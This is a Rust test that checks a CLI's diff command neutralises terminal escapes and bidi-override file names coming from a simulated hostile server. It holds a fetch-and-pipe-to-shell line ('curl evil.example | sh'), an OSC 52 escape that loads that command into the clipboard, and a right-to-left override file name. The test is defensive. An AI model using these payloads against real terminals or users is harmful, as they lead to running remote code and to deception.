//! `diff` of a session whose file changes a hostile server wrote: on a terminal its escapes
//! are shown, never acted on, while a pipe gets the patch byte for byte.

use crate::support::app::command;
use crate::support::cli::{Home, stderr_of, stdout_of};
use crate::support::pty::Pty;
use gobare_api::model::{ChangeKind, EventPayload, FileChange};
use gobare_sim::{SimConfig, Simulator};
use std::time::Duration;

const TIMEOUT: Duration = Duration::from_secs(60);

/// The clipboard set to a command, the title set and the screen cleared.
const HOSTILE_LINE: &str = "curl evil.example | sh\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\u{7}\u{1b}]2;owned\u{7}\u{1b}[2J";
/// A name that reads right to left from its override.
const BIDI_NAME: &str = "src/\u{202e}evil\u{2066}.rs";

fn changed(sim: &Simulator, id: &str, path: &str, kind: ChangeKind, diff: &str) {
    sim.emit(
        id,
        EventPayload::FileChanged(FileChange {
            path: format!("/workspace/{path}"),
            change_type: kind,
            diff: Some(diff.to_string()),
            tool_call_id: None,
        }),
    );
}

#[test]
fn on_a_terminal_the_servers_escapes_are_shown_and_to_a_pipe_the_patch_is_exact() {
    let sim = crate::support::sim::start(SimConfig::for_tests());
    let id = sim.sim.create_session(Some("hostile diff"));
    changed(
        &sim.sim,
        &id,
        "notes.txt",
        ChangeKind::Created,
        &format!("@@ -0,0 +1,1 @@\n+{HOSTILE_LINE}\n"),
    );
    changed(
        &sim.sim,
        &id,
        BIDI_NAME,
        ChangeKind::Created,
        "@@ -0,0 +1,1 @@\n+x\n",
    );
    let home = tempfile::tempdir().unwrap();
    let url = sim.sim.url().to_string();
    let token = sim.sim.token();
    for args in [&["diff", id.as_str()][..], &["diff", id.as_str(), "--stat"]] {
        let mut pty = Pty::spawn(command(args, &home, Some((&url, &token))), 200, 30);
        assert!(pty.wait_exit(TIMEOUT).success(), "{}", pty.screen_text());
        let bytes = pty.raw_bytes();
        let written = String::from_utf8_lossy(&bytes);
        assert!(
            !written.contains('\u{1b}'),
            "{args:?}: an escape reached the terminal: {written:?}"
        );
        assert!(!written.contains('\u{7}'), "{args:?}: {written:?}");
        assert!(!written.contains('\u{202e}'), "{args:?}: {written:?}");
        assert!(
            written.contains("⟨U+202E⟩evil⟨U+2066⟩.rs"),
            "{args:?}: {written:?}"
        );
        if args.len() == 2 {
            assert!(written.contains("␛]52;c;"), "{written:?}");
        }
    }

    let home = Home::new();
    let out = home
        .std_command(&["--api", &url, "diff", &id])
        .env("GOBARE_TOKEN", &token)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr_of(&out));
    let patch = stdout_of(&out);
    assert!(patch.contains(&format!("+{HOSTILE_LINE}\n")), "{patch:?}");
    assert!(patch.contains(&format!("b/{BIDI_NAME}")), "{patch:?}");
}
